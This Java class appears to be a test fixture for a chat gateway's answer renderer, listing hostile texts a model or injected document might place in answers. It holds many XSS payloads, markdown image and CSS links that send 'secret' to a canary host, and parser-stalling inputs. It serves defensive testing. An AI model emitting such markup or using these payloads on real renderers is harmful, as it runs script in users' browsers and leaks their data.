package chatgateway.support.browser;

import java.util.List;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Texts that a model, or the author of a document it read, may put into an answer to attack the user
 * (docs/threats.md#t28-scripts-in-answers, #t29-data-leaves-by-pictures-and-links).
 */
public final class HostileTexts {
    /** Has effects if parsed as markup; CANARY stands for a server that must receive no request. */
    public static final List<String> MARKUP = List.of(
            "<img src=x onerror=\"window.__xss=1\">",
            "<IMG SRC=x ONERROR=window.__xss=1//",
            "<svg/onload=window.__xss=1>",
            "<svg><script>window.__xss=1</script></svg>",
            "<script>window.__xss=1</script>",
            "<script src=\"CANARY/x.js\"></script>",
            "[click](javascript:window.__xss=1)",
            "[click](java&#10;script:window.__xss=1)",
            "[click](&#106;avascript:window.__xss=1)",
            "[click](\u0001javascript:window.__xss=1)",
            "[click](data:text/html,<script>window.__xss=1</script>)",
            "[click](vbscript:window.__xss=1)",
            "[click](blob:CANARY/1)",
            "<javascript:window.__xss=1>",
            "<a href=\"javascript:window.__xss=1\">click</a>",
            "[a](https://example.com/\"onmouseover=\"window.__xss=1\")",
            "[a](https://example.com 'x\" onmouseover=\"window.__xss=1')",
            "```\"><img/src=x/onerror=window.__xss=1>\ncode\n```",
            "```js <img src=x onerror=window.__xss=1>\n<img src=x onerror=window.__xss=1>\n```",
            "`<img src=x onerror=window.__xss=1>`",
            "<iframe src=\"javascript:window.__xss=1\"></iframe>",
            "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
            "<style>@import 'CANARY/x.css'; body { background: url(CANARY/bg) }</style>",
            "<div style=\"background: url(CANARY/bg)\">x</div>",
            "<link rel=stylesheet href=\"CANARY/x.css\">",
            "<link rel=preload as=image href=\"CANARY/p.png\">",
            "<meta http-equiv=refresh content=\"0;url=CANARY/\">",
            "<base href=\"CANARY/\">",
            "<form id=app action=\"CANARY/\"><input name=query autofocus onfocus=window.__xss=1></form>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__xss=1&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
            "<details open ontoggle=window.__xss=1>x</details>",
            "<video src=\"CANARY/v.mp4\" poster=\"CANARY/p.png\" onerror=window.__xss=1></video>",
            "<audio src=\"CANARY/a.mp3\" autoplay></audio>",
            "<object data=\"CANARY/o.swf\"></object><embed src=\"CANARY/e\">",
            "<picture><source srcset=\"CANARY/s.png\"><img srcset=\"CANARY/t.png 2x\"></picture>",
            "<svg><image href=\"CANARY/i.png\"/></svg>",
            "![x](CANARY/?d=secret)",
            "![x](https://secret.canary.invalid/?d=secret)",
            "https://secret.canary.invalid/?d=secret and www.canary.invalid",
            "<link rel=dns-prefetch href=\"//secret.canary.invalid\"><link rel=preconnect href=\"//canary.invalid\">",
            "<a href=\"CANARY/\" ping=\"CANARY/ping\">x</a>",
            "<input type=image src=\"CANARY/i.png\"><body background=\"CANARY/b.png\">",
            "![x][1]\n\n[1]: CANARY/?d=secret",
            "![x](CANARY/a.png \"t\" onerror=window.__xss=1)",
            "![\"onerror=\"window.__xss=1](CANARY/b.png)",
            "![\"onerror=\"window.__xss=1](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAX+XDSwAAAABJRU5ErkJggg==)",
            "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIi8+)",
            "![x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
            "![x](data:image/png,<script>window.__xss=1</script>)",
            "[click](data:image/png;base64,AAAA) [click](//canary.invalid/files/x?sign=1)",
            "[click](/files/../chat?token=x&sign=1) ![x](/files/../v1/me?sign=1) ![x](//canary.invalid/files/x.png?sign=1)",
            "[x](abbr:javascript:window.__xss=1) [x](abbr:<img src=x onerror=window.__xss=1>)",
            "text[^1]\n\n[^1]: <img src=x onerror=window.__xss=1> [click](javascript:window.__xss=1) ![x](CANARY/f.png)",
            "text[^\"><img/src=x/onerror=window.__xss=1>]\n\n[^\"><img/src=x/onerror=window.__xss=1>]: note",
            "text[^__proto__] [^constructor]\n\n[^__proto__]: note\n[^constructor]: note",
            "| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=1> | <br><svg onload=window.__xss=1> |",
            "$$\\href{javascript:window.__xss=1}{x}$$",
            "$$\\includegraphics{CANARY/m.png}$$",
            "$$\\htmlStyle{background:url(CANARY/n)}{x} \\htmlData{x=1}{y}$$",
            "$$<img src=x onerror=window.__xss=1>$$",
            "> - 1. <img src=x onerror=window.__xss=1>",
            "&lt;img src=x onerror=window.__xss=1&gt;",
            "<!--<img src=\"--><img src=x onerror=window.__xss=1//\">",
            "<p id=query class=composer>x</p><a id=send name=send>y</a>",
            "</template></article><img src=x onerror=window.__xss=1>");

    /** Costs a parser that looks ahead without a limit minutes. */
    public static final List<String> COSTLY = List.of(
            "x".repeat(1_000_000),
            ">".repeat(10_000) + " deep",
            "> ".repeat(10_000) + "deep",
            "*a ".repeat(10_000),
            "- item of a list\n".repeat(2_000),
            "*".repeat(10_000),
            "가**`".repeat(3_000),
            "`".repeat(9_999) + " " + "`".repeat(9_998),
            "[".repeat(10_000),
            "![](".repeat(3_000),
            "[](<".repeat(3_000) + ")",
            "[a](b[c](d".repeat(1_000),
            "$".repeat(10_000),
            "\\(".repeat(5_000),
            "<".repeat(10_000),
            "| ".repeat(5_000) + "\n" + "|-".repeat(5_000),
            "- ".repeat(1_000) + "x");

    /** Blocks with lines in proportion to a number, none of which is long. */
    public static final List<IntFunction<String>> LONG_BLOCKS = List.of(
            "a b\n"::repeat,
            lines -> "```\n" + "a\n".repeat(4 * lines) + "```\n",
            lines -> "    " + "a\n    ".repeat(4 * lines) + "a",
            "> a b\n"::repeat,
            "|-|-|\n|-|\n"::repeat,
            lines -> "- a\n" + "  b\n".repeat(lines),
            lines -> "|a|\n|-|\n" + "|b|\n".repeat(lines / 4),
            lines -> numbered("[%1$d] and text\n\n[%1$d]: https://example.com/%1$d\n\n", lines / 8));

    private HostileTexts() {}

    private static String numbered(String format, int count) {
        return IntStream.range(0, count).mapToObj(format::formatted).collect(Collectors.joining());
    }
}
